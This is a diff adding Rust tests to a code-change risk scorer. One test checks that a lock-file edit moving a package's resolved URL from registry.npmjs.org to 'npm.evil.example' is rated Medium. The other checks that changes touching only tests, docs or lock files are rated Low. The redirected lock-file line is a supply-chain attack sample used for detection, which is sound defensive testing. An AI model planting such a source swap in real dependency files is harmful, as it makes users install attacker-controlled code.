@@ -5,7 +5,7 @@ use proem_risk::change::FileStatus;
 use proem_risk::finding::{CalledFunction, ChangedFunction, Finding};
 use proem_risk::history::Mends;
 use proem_risk::level::{Level, LevelReason, LevelRules};
-use proem_risk::path::RepoPath;
+use proem_risk::path::{GitAttributes, PathRules, RepoPath, classify_path};
 use proem_risk::signal::SignalName;
 use proem_risk::tree::Imports;
 
@@ -376,6 +376,63 @@ fn code_from_another_source_is_never_low_and_names_both() {
     check("ci.yml", &digest(&one, "v4"), &digest(&other, "v4"), Level::Medium);
     check("auth.yml", &digest(&one, "v4.1"), &digest(&other, "v4.2"), Level::Low);
     check("auth.yml", "- uses: a/b@v4", "- uses: a/b@v5", Level::Low);
+}
+
+#[test]
+fn a_lock_file_alone_that_takes_a_package_from_another_source_is_not_low() {
+    let rules = PathRules::shipped().unwrap();
+    let assess = |paths: &[&str], samples: u32, new: &str| {
+        let mut world = World::new(paths);
+        world.sampled(samples);
+        for file in &mut world.change.files {
+            file.class = classify_path(&file.path, &GitAttributes::default(), &rules);
+        }
+        let line = |host: &str| format!("\"resolved\": \"https://{host}/left-pad/-/left-pad-1.3.0.tgz\",");
+        world.changes("package-lock.json", &[&line("registry.npmjs.org")], &[&line(new)]);
+        world.assess(Depth::TierOne)
+    };
+    // With a rank and without one, and beside tests.
+    for (paths, samples) in [
+        (&["package-lock.json"][..], 200),
+        (&["package-lock.json"][..], 0),
+        (&["package-lock.json", "tests/test_a.py"][..], 200),
+        (&["package-lock.json", "README.md"][..], 200),
+    ] {
+        let swapped = assess(paths, samples, "npm.evil.example");
+        assert_eq!(swapped.level, Level::Medium, "{paths:?} of {samples}: {:?}", swapped.reasons);
+        let words = text(&only(&swapped, SignalName::OtherSource).evidence);
+        let expected = "‹package-lock.json› takes code from another source at line 7: ‹registry.npmjs.org› becomes \
+                        ‹npm.evil.example›";
+        assert_eq!(words, expected);
+        assert_eq!(swapped.reasons.first(), Some(&LevelReason::OtherSource { file: 0 }), "{:?}", swapped.reasons);
+        let bumped = assess(paths, samples, "registry.npmjs.org");
+        assert_eq!(bumped.level, Level::Low, "{paths:?} of {samples}: {:?}", bumped.reasons);
+    }
+}
+
+#[test]
+fn what_nobody_runs_or_wrote_is_low_with_the_true_reason() {
+    let rules = PathRules::shipped().unwrap();
+    for (paths, words) in [
+        (&["tests/test_a.py"][..], "only tests change"),
+        (&["docs/guide.md", "CHANGELOG.md"][..], "only documentation changes"),
+        (&["man/proem.1", "doc/proem.conf.5"][..], "only documentation changes"),
+        (&["api/users.pb.go"][..], "only generated files change"),
+        (&["vendor/github.com/x/y.go"][..], "only vendored files change"),
+        (&["Cargo.lock", "web/yarn.lock"][..], "only lock files change"),
+        (&["tests/test_a.py", "docs/guide.md", "Cargo.lock"][..], "only tests, documentation and lock files change"),
+    ] {
+        let mut world = World::new(paths);
+        world.sampled(200);
+        for file in &mut world.change.files {
+            file.class = classify_path(&file.path, &GitAttributes::default(), &rules);
+            file.lines = Some(proem_risk::change::LineCounts { added: 100_000, removed: 50_000 });
+        }
+        let assessment = world.assess(Depth::TierTwo);
+        let reasons: Vec<String> = assessment.reasons.iter().map(LevelReason::in_words).collect();
+        assert_eq!((assessment.level, reasons), (Level::Low, vec![words.to_owned()]), "{paths:?}");
+        assert!(assessment.found.findings.is_empty(), "{paths:?}: {:?}", assessment.found.findings);
+    }
 }
 
 #[test]
